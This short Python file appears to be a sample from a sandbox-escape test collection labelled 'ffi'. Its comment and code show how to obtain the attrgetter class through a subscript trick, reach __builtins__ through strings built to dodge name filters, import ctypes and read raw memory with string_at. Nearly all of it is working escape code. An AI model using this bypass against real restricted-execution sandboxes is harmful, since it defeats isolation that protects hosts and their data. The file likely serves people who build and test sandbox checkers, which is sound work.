# family: ffi
# Escape: a subscript index is an operand where `x.__class__` is allowed, and the tool's own __getitem__
# returns the index: the attrgetter class. It reads tool.__builtins__ (run-time name), imports ctypes and
# reads raw memory with string_at.
import operator


class Lookup:
    def __getitem__(self, key):
        return key


def tool(address: int, size: int) -> bytes:
    probe = operator.attrgetter("real")
    Getter = Lookup()[probe.__class__]
    edge = "_" * 2
    ctypes = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]("ctypes")
    return ctypes.string_at(address, size)
